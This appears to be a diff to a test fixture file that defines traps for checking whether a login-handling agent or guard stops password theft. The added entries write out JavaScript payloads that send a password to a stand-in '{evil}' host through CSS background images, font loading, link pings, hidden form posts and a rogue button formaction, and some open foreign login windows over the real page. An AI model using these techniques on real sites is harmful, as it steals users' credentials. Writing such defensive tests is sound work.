@@ -61,6 +61,12 @@ def _sent(code: str) -> Trap:
     return Trap(door="", pages={"/signin": form("/signin") + SENDS % code}, is_login=True, finding=STOPPED)
 
 
+def _covered(code: str) -> Trap:
+    """The app's own login, over which a foreign one comes up in a window of its own."""
+    pages = {"/signin": form("/signin") + f"<script>{code}</script>"}
+    return Trap(door="", pages=pages, is_login=True, finding=ASKED)
+
+
 TRAPS: dict[str, Trap] = {
     "link": Trap("{evil}/login", finding=ASKED),
     "frame": Trap(pages={"/login": FRAME}, finding=ASKED),
@@ -203,6 +209,25 @@ TRAPS: dict[str, Trap] = {
         + PW
         + ");document.head.append(l)"
     ),
+    "background": _sent("document.body.style.backgroundImage=`url({evil}/take?p=${encodeURIComponent(" + PW + ")})`"),
+    "font": _sent("new FontFace('x',`url({evil}/take?p=${encodeURIComponent(" + PW + ")})`).load()"),
+    "ping of a link": _sent(
+        "const a=document.createElement('a');a.href='#';a.ping='{evil}/take?p='+encodeURIComponent("
+        + PW
+        + ");a.click()"
+    ),
+    "form into a new window": _sent(
+        "const g=document.createElement('form');g.target='_blank';g.method='post';g.action='{evil}/take';"
+        "const q=document.createElement('input');q.name='q';q.value="
+        + PW
+        + ";g.append(q);document.body.append(g);g.submit()"
+    ),
+    "button with an address of its own": Trap(
+        pages={"/login": form("/signin", button="<button formaction='{evil}/take'>Log in</button>")}, finding=STOPPED
+    ),
+    "foreign window as the login opens": _covered("window.open('{evil}/login')"),
+    "foreign window at the first key": _covered("f.user.onfocus=()=>window.open('{evil}/login')"),
+    "foreign window as the login is sent": _covered("f.onsubmit=()=>{window.open('{evil}/login')}"),
     "form below a foreign base": Trap(pages={"/login": '<base href="{evil}/">' + form("take")}, finding=STOPPED),
     "empty window that gets an address": _sent("open('').location='{evil}/take?p='+encodeURIComponent(" + PW + ")"),
     "picture": _sent("new Image().src='{evil}/take?p='+encodeURIComponent(" + PW + ")"),
